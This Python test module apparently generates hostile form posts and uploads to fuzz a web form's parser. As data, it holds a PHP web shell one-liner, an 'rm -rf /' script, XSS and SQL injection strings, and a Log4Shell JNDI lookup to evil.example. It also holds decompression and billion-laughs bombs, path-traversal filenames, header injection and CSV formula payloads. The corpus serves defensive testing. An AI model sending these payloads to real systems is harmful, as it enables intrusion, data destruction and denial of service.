"""Three hundred hostile uploads and form posts: each is a body as it goes over the line, beside words that a person typed."""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache, partial
from urllib.parse import quote_from_bytes

from tests.webform.sending import PNG
from tests.webform.test_bare_pictures import picture, png
from tests.webform.test_mail_headers import CORPUS

EDGE = b"edge"
FORM = "multipart/form-data; boundary=edge"
ENCODED = "application/x-www-form-urlencoded"
VISIT = b"@VISIT@"  # Where the token of a visit goes when it is sent.
TYPED = {"message": "Насос гудит, 水泵响. It hums <b>loudly</b> & often.", "subject": "Pump “4711”", "name": "Anna O'Größe", "email": "anna@customer.example"}
PRESSED = {"visit": VISIT.decode(), "confirmed": "1", "scripted": "1"}


@dataclass(frozen=True)
class Post:
    """A hostile post. ``kept`` are the fields beside the hostile part; nobody can read any where it is None."""

    name: str
    body: Callable[[], bytes]
    kept: tuple[str, ...] | None = tuple(TYPED)
    content_type: str = FORM
    path: str = "/"


def part(naming: bytes, content: bytes, more: bytes = b"") -> bytes:
    return b"--edge\r\nContent-Disposition: form-data; " + naming + b"\r\n" + more + b"\r\n" + content + b"\r\n"


def fields(**changes: bytes) -> bytes:
    said = {name: text.encode() for name, text in {**PRESSED, **TYPED}.items()} | changes
    return b"".join(part(b'name="%s"' % name.encode(), content) for name, content in said.items())


def whole(*parts: bytes, **changes: bytes) -> bytes:
    return fields(**changes) + b"".join(parts) + b"--edge--\r\n"


def with_file(filename: bytes, content: bytes | Callable[[], bytes], kind: bytes = b"image/png") -> bytes:
    inside = content if isinstance(content, bytes) else content()
    return whole(part(b'name="attachments"; filename="%s"' % filename, inside, b"Content-Type: %s\r\n" % kind))


def encoded(**changes: bytes) -> bytes:
    said = {name: quote_from_bytes(text.encode()).encode() for name, text in {**PRESSED, **TYPED}.items()} | changes
    return b"&".join(name.encode() + b"=" + content for name, content in said.items()).replace(b"%40VISIT%40", VISIT)


def others(*names: str) -> tuple[str, ...]:
    return tuple(name for name in TYPED if name not in names)


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


@cache
def bomb_chunk(kind: bytes, before: bytes, megabytes: int = 60) -> bytes:
    """A small picture with a note that unpacks to very much."""
    return PNG[:33] + chunk(kind, before + zlib.compress(bytes(megabytes * 1_000_000), 9)) + PNG[33:]


def packed(**files: bytes) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name.replace("__", "/"), content)
    return output.getvalue()


@cache
def in_itself(depth: int) -> bytes:
    content = packed(zeros=bytes(10_000_000))
    for _ in range(depth):
        content = packed(a=content, b=content, c=content)
    return content


def laughs() -> bytes:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    return f'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l0 "ha">{entities}]><l>&l11;</l>'.encode()


GIF, JPEG, WEBP = (partial(picture, kind) for kind in ("GIF", "JPEG", "WEBP"))
PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
BASES: dict[str, tuple[bytes, Callable[[], bytes]]] = {
    "png": (b"a.png", partial(picture, "PNG")),
    "gif": (b"a.gif", GIF),
    "jpg": (b"a.jpg", JPEG),
    "webp": (b"a.webp", WEBP),
    "pdf": (b"a.pdf", lambda: PDF),
    "zip": (b"a.zip", lambda: packed(a=b"a")),
    "txt": (b"a.txt", lambda: b"serial 4711\n"),
}
TAILS = {
    "page": b"<html><script>alert(1)</script></html>",
    "drawing": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "php": b"<?php system($_GET['c']); ?>",
    "program": b"MZ\x90\x00" + bytes(200),
    "archive": packed(**{"..__..__evil": b"x"}),
    "shell": b"\n#!/bin/sh\nrm -rf /\n",
    "applet": b"\xca\xfe\xba\xbe\x00\x00\x00\x34",
}
BOMBS: dict[str, tuple[bytes, Callable[[], bytes]]] = {
    "png of 65,000 squared": (b"a.png", partial(png, 65_000, 65_000)),
    "png of 30,000 squared": (b"a.png", partial(png, 30_000, 30_000)),
    "png two billion wide": (
        b"a.png",
        lambda: b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 2**31 - 1, 1, 8, 6, 0, 0, 0)) + chunk(b"IEND", b""),
    ),
    "png of no width": (b"a.png", lambda: b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 0, 0, 8, 6, 0, 0, 0)) + chunk(b"IEND", b"")),
    "png note": (b"a.png", partial(bomb_chunk, b"zTXt", b"Comment\0\0")),
    "png long note": (b"a.png", partial(bomb_chunk, b"iTXt", b"Comment\0\1\0\0\0")),
    "png colours": (b"a.png", partial(bomb_chunk, b"iCCP", b"p\0\0")),
    "png pixels": (b"a.png", lambda: PNG[:33] + chunk(b"IDAT", zlib.compress(bytes(100_000_000), 9)) + chunk(b"IEND", b"")),
    "png of 100,000 parts": (b"a.png", lambda: PNG[:33] + chunk(b"tEXt", b"a\0b") * 100_000 + PNG[33:]),
    "png that says its part is longer": (b"a.png", lambda: PNG[:33] + b"\xff\xff\xff\xffIDAT" + PNG[33:]),
    "gif of 65,535 squared": (b"a.gif", lambda: b"GIF89a\xff\xff\xff\xff\xf7\0\0" + bytes(768) + b",\0\0\0\0\xff\xff\xff\xff\0\2\0;"),
    "gif of 20,000 frames": (b"a.gif", lambda: b"GIF89a\1\0\1\0\x80\0\0" + bytes(6) + b",\0\0\0\0\1\0\1\0\0\2\2D\1\0" * 20_000 + b";"),
    "gif without an end": (b"a.gif", lambda: b"GIF89a\1\0\1\0\x80\0\0" + bytes(6) + b"!\xfe" + (b"\xff" + b"x" * 255) * 4000),
    "jpeg of 65,535 squared": (
        b"a.jpg",
        lambda: b"\xff\xd8\xff\xc0\0\x11\x08\xff\xff\xff\xff\3\1\x22\0\2\x11\1\3\x11\1\xff\xda\0\x0c\3\1\0\2\x11\3\x11\0?\0\xff\xd9",
    ),
    "jpeg of 100,000 notes": (b"a.jpg", lambda: b"\xff\xd8" + b"\xff\xfe\0\3x" * 100_000 + b"\xff\xd9"),
    "webp of 16,384 squared": (b"a.webp", lambda: b"RIFF\x1e\0\0\0WEBPVP8X\x0a\0\0\0\x10\0\0\0\xff\x3f\0\xff\x3f\0VP8 \0\0\0\0"),
    "webp that says it is longer": (b"a.webp", lambda: b"RIFF\xff\xff\xff\xffWEBPVP8L\xff\xff\xff\xff/"),
    "heic of nothing": (b"a.heic", lambda: b"\0\0\0\x18ftypheic" + b"\xff" * 5000),
    "zip of zeros": (b"a.zip", lambda: packed(zeros=bytes(20_000_000))),
    "zip in zip in zip": (b"a.zip", partial(in_itself, 4)),
    "zip with a path": (b"a.zip", lambda: packed(**{"..__..__etc__passwd": b"x"})),
    "zip of nothing": (b"a.zip", lambda: b"PK\x05\x06" + bytes(18)),
    "document of laughs": (b"a.docx", lambda: packed(word__document=laughs())),
    "sheet of laughs": (b"a.xlsx", lambda: packed(xl__workbook=laughs())),
    "text of laughs": (b"a.txt", laughs),
    "gzip called a picture": (b"a.png", lambda: gzip.compress(bytes(5_000_000))),
    "pdf of zeros": (
        b"a.pdf",
        lambda: b"%PDF-1.7\n1 0 obj<</Length 9/Filter/FlateDecode>>stream\n" + zlib.compress(bytes(50_000_000), 9) + b"\nendstream endobj\n",
    ),
    "one line of nine megabytes": (b"a.txt", lambda: b"x" * 9_000_000),
    "a million columns": (b"a.csv", lambda: b"," * 1_000_000),
    "a formula": (b"a.csv", lambda: b"=cmd|' /C calc'!A0,@SUM(1),+1\n"),
    "nothing but zeros": (b"a.txt", lambda: bytes(1_000_000)),
    "eleven megabytes": (b"a.txt", lambda: b"x" * 11_000_000),
    "forty megabytes": (b"film.png", lambda: PNG + bytes(40_000_000)),
    "sixty megabytes": (b"film.png", lambda: PNG + bytes(60_000_000)),
}
NAMES = [
    b"../../etc/passwd.png", b"..\\..\\boot.ini.png", b"/etc/cron.d/a.png", b"C:\\Windows\\a.png", b"a.png.exe", b"a.exe.png", b"a.php.png",
    b"a.png.php", b".htaccess", b".png", b"..", b".", b" ", b"png", b"con.png", b"aux.txt", b"nul", b"a.png ", b"a.png.", b"a..png", b"a.pNg",
    b"a%00.png", b"a\0.exe.png", b"a\x1b[31m.png", b"%2e%2e%2f.png", b"%0d%0aSet-Cookie: a=b.png", b"a\\r\\nBcc: evil@evil.example.png",
    b"a\rBcc: evil@evil.example\r.png", b"<img src=x onerror=alert(1)>.png", b"'; DROP TABLE attachment; --.png", b"{{7*7}}.png",
    b"${jndi:ldap://evil.example}.png", b"%(name)s%n%n.png", b"=cmd|' /C calc'!A0.png", b"`id`.png", b"$(id).png", b"a;b.png", b"a=b&c.png",
    b"a,b.png", b"a*b?.png", b"a|b.png", b'a\\".png', b"n" * 300 + b".png", b"n" * 70_000 + b".png", b"a." * 5000 + b"png",
    "invoice\u202egnp.exe.png".encode(), "\u200b\u200d\u2060.png".encode(), "я".encode() * 300 + b".png", "👩‍👩‍👧".encode() * 50 + b".png",
    ("Z" + "\u0300\u0301" * 400 + ".png").encode(), "р\u0430ypal.png".encode(), "ｆｕｌｌ．png".encode(), "a\u2028b\u0085c.png".encode(),
    "Größe.png".encode("latin-1"), "насос.png".encode("cp1251"), "水泵.png".encode("gb18030"), b"\xc0\xae\xc0\xae/a.png", b"\xed\xa0\x80.png",
    b"\xff\xfe.png", b"=?utf-8?q?=0d=0aBcc:_evil?=.png",
]  # fmt: skip
ENCODINGS = ("latin-1", "cp1251", "koi8-r", "utf-16-le", "utf-16-be", "utf-32-le", "utf-7", "shift_jis", "gb18030", "big5", "iso2022_jp", "cp037")
BYTES = {
    "no character": b"\xff\xfe\xfd",
    "overlong": b"\xc0\xaf\xe0\x80\xaf",
    "half a pair": b"\xed\xa0\xbd",
    "cut short": b"\xd0\xbd\xd0",
    "zeros": b"a\0b\0c",
    "controls": bytes(range(1, 32)),
    "beyond": b"\xf4\x90\x80\x80",
    "mark": b"\xef\xbb\xbfa",
}
SIGNS = {
    "half a sign": b"100%",
    "no digits": b"%zz%u0041",
    "zero": b"a%00b",
    "a line": b"a%0d%0aBcc:%20evil@evil.example",
    "bad bytes": b"%ff%fe",
    "twice": b"%25250d",
}
VALUES = {
    "a megabyte": b"long " * 200_000,
    "a hundred thousand lines": b"\n" * 100_000 + b"end",
    "marks on one letter": ("Z" + "\u0300" * 9000).encode(),
    "all directions": "\u202e\u2066\u2067\u202d".encode() * 500,
    "brackets": b"[" * 9000,
    "markup": b"</textarea><script>alert(1)</script>" * 50,
    "template": b"{{ config }}{% for a in range(10**9) %}{% endfor %}",
    "sql": b"' OR 1=1; DROP TABLE ticket; --",
    "a pattern's bane": b"a" * 9000 + b"!",
    "addresses": b"a@a." * 2000,
    "spaces": b" " * 9000 + b"x",
    "no letters": "\u200b\u200d".encode() * 100,
}
STRAY = {
    "visit": [b"", b"forged", b"a.b.c", b"\0", b"x" * 60_000, "я".encode()],
    "confirmed": [b"2", b"\xff", b"1" * 5000],
    "topic": [b"weather", b"../../x", b"x" * 60_000, b"\xff\xfe"],
    "read": [b"1," * 30_000, b"-1", b"9" * 5000, "²".encode()],
    "kept": [b"x", b"x" * 60_000, b"\0"],
    "remove": [b"x" * 60_000],
    "skip": [b"forged", b"x" * 60_000],
    "field-__proto__": [b"x"],
    "lang": [b"../../etc", b"x" * 9000],
    "change": [b"1"],
    "embed": [b"javascript:alert(1)", b"https://evil.example"],
    "__class__": [b"x"],
    "message[]": [b"x"],
}


def files() -> Iterator[Post]:
    for base, (filename, make) in BASES.items():
        for tail, more in TAILS.items():
            yield Post(f"polyglot: {tail} behind {base}", lambda filename=filename, make=make, more=more: with_file(filename, make() + more))
            if base in {"png", "pdf", "txt"}:
                yield Post(f"polyglot: {tail} before {base}", lambda filename=filename, make=make, more=more: with_file(filename, more + make()))
    for name, (filename, make) in BOMBS.items():
        yield Post(f"bomb: {name}", partial(with_file, filename, make), None if name == "sixty megabytes" else tuple(TYPED))
    for base in ("png", "gif", "jpg", "webp"):
        filename, make = BASES[base]
        for share in (0.02, 0.1, 0.3, 0.6, 0.9, 0.99):
            yield Post(f"cut: {base} at {share:.0%}", lambda f=filename, make=make, share=share: with_file(f, make()[: int(len(make()) * share) + 1]))
        for place in (8, 20, 30, 60, 100, 150):
            yield Post(f"turned: {base} at {place}", lambda f=filename, make=make, place=place: with_file(f, turned(make(), place)))
    for number, name in enumerate(NAMES):
        yield Post(f"name {number}: {name[:40]!r}", partial(with_file, name, PNG), None if len(name) > 10_000 else tuple(TYPED))


def turned(content: bytes, place: int) -> bytes:
    place = min(place, len(content) - 1)
    return content[:place] + bytes([content[place] ^ 0xFF]) + content[place + 1 :]


def encodings() -> Iterator[Post]:
    for name in ENCODINGS:
        said = "Größe Насос 水泵 ändern".encode(name, "replace")
        for field in ("message", "subject"):
            yield Post(f"{name} in {field}", partial(whole, **{field: said}), others(field))
        raw = said.replace(b"&", b"").replace(b"%", b"").replace(b"+", b"")
        yield Post(f"{name} in an encoded form", partial(encoded, name=raw), others("name"), ENCODED)
    for name, said in BYTES.items():
        yield Post(f"bytes: {name}", partial(whole, message=b"It hums. " + said), others("message"))
        yield Post(f"encoded bytes: {name}", partial(encoded, message=b"It+hums.+" + said), others("message"), ENCODED)
    for name, said in SIGNS.items():
        yield Post(f"signs: {name}", partial(encoded, subject=said), others("subject"), ENCODED)
    yield Post("a field that says its encoding", lambda: whole(part(b'name="topic"', b"+AGE-", b"Content-Type: text/plain; charset=utf-7\r\n")))
    yield Post("_charset_", partial(whole, _charset_=b"utf-16"))


def injections() -> Iterator[Post]:
    for name, text in CORPUS.items():
        for field in ("name", "subject", "email"):
            said = text.encode("utf-8", "surrogatepass")
            yield Post(f"header: {name} in {field}", partial(whole, **{field: said}), others(field))
    for name, said in VALUES.items():
        for field in ("message", "name"):
            yield Post(f"value: {name} in {field}", partial(whole, **{field: said}), others(field))
    for field, values in STRAY.items():
        for number, said in enumerate(values):
            yield Post(f"stray: {field} {number}", partial(whole, **{field: said}))


def structures() -> Iterator[Post]:
    good = whole()
    yield Post("no boundary named", lambda: good, None, "multipart/form-data")
    yield Post("another boundary", lambda: good, None, "multipart/form-data; boundary=other")
    yield Post("a boundary of 5,000 letters", lambda: good, None, f"multipart/form-data; boundary={'x' * 5000}")
    yield Post("a boundary with quotes", lambda: good, None, 'multipart/form-data; boundary="ed\\"ge; x="')
    yield Post("no end", lambda: good[: -len(b"--edge--\r\n")], None)
    yield Post("cut in the middle", lambda: good[: len(good) // 2], None)
    yield Post("nothing", lambda: b"", None)
    yield Post("only an end", lambda: b"--edge--\r\n", None)
    yield Post("line feeds alone", lambda: good.replace(b"\r\n", b"\n"), None)
    yield Post("a megabyte before", lambda: b"x" * 1_000_000 + b"\r\n" + good, None)
    yield Post("a megabyte behind", lambda: good + b"x" * 1_000_000)
    yield Post("ten thousand parts", lambda: b"".join(part(b'name="f%d"' % n, b"x") for n in range(10_000)) + good, None)
    yield Post("three hundred and one parts", lambda: b"".join(part(b'name="f%d"' % n, b"x") for n in range(301)) + good, None)
    yield Post("two hundred and fifty parts", lambda: b"".join(part(b'name="f%d"' % n, b"x") for n in range(250)) + good)
    yield Post("two hundred files", lambda: whole(*(part(b'name="attachments"; filename="%d.txt"' % n, b"%d" % n) for n in range(200))))
    yield Post("a message two hundred times", lambda: good[:-10] + part(b'name="message"', b"again") * 200 + b"--edge--\r\n")
    yield Post("a part without headers", lambda: b"--edge\r\n\r\nx\r\n" + good, None)
    yield Post("a part without a name", lambda: part(b"x=y", b"x") + good, None)
    yield Post("a part of another kind", lambda: b"--edge\r\nContent-Disposition: attachment\r\n\r\nx\r\n" + good, None)
    yield Post("a header of a megabyte", lambda: part(b'name="x"', b"x", b"X-Long: " + b"x" * 1_000_000 + b"\r\n") + good, None)
    yield Post("ten thousand headers", lambda: part(b'name="x"', b"x", b"X-A: b\r\n" * 10_000) + good, None)
    yield Post("a name with a line in it", lambda: part(b'name="x\r\nX-Evil: 1"', b"x") + good, None)
    yield Post("names in parts", lambda: part(b"name*0=mess; name*1=age", b"x") + good, None)
    yield Post("a name that is encoded", lambda: part(b"name*=utf-8''mess%61ge", b"x") + good, None)
    yield Post("a message that is a file", lambda: whole(part(b'name="message"; filename="a.txt"', b"x")))
    yield Post("files that are a text", lambda: whole(part(b'name="attachments"', b"x" * 9000)))
    yield Post("a file without a name", lambda: whole(part(b'name="attachments"; filename=""', PNG)))
    yield Post("a file with two names", lambda: whole(part(b'name="attachments"; filename="a.txt"; filename*=utf-8\'\'evil%0d%0a.exe', b"x")))
    yield Post("a file of a page's kind", lambda: whole(part(b'name="attachments"; filename="a.txt"', b"x", b"Content-Type: text/html; charset=x\r\nX: y\r\n")))
    yield Post("base64", lambda: whole(part(b'name="attachments"; filename="a.txt"', b"eA==", b"Content-Transfer-Encoding: base64\r\n")))
    yield Post("forms in forms", lambda: whole(part(b'name="x"', b"--in\r\n\r\n" * 5000, b"Content-Type: multipart/mixed; boundary=in\r\n")))
    yield Post("the boundary in the text", lambda: whole(subject=b"x\r\n--edgy\r\n--edg\r\n--ed"), others("subject"))
    yield Post("a hundred thousand pairs", lambda: encoded() + b"&a=b" * 100_000, None, ENCODED)
    yield Post("a thousand equal signs", lambda: encoded() + b"&" + b"=" * 1000, tuple(TYPED), ENCODED)
    yield Post("three megabytes", lambda: encoded(message=b"x" * 3_000_000), None, ENCODED)
    yield Post("a form that is JSON", lambda: b'{"message": "' + b"[" * 100_000, None, "application/json")
    yield Post("a form that is XML", laughs, None, "application/xml")
    for number, kind in enumerate(
        ("", "x", "multipart/form-data;;;boundary", "multipart/form-data; boundary=", "application/x-www-form-urlencoded; charset=utf-16")
    ):
        yield Post(f"kind {number}", lambda number=number: encoded(subject=b"%d" % number), None, kind)


def uploads() -> Iterator[Post]:
    """The same, as the page's script sends them: one file by itself, beside words that stay in the page."""

    def alone(filename: bytes, content: bytes) -> bytes:
        return part(b'name="visit"', VISIT) + part(b'name="file"; filename="%s"' % filename, content) + b"--edge--\r\n"

    for name, (filename, make) in BOMBS.items():
        yield Post(f"upload: {name}", lambda filename=filename, make=make: alone(filename, make()), None, path="/uploads")


def every() -> list[Post]:
    return [*structures(), *files(), *encodings(), *injections(), *uploads()]
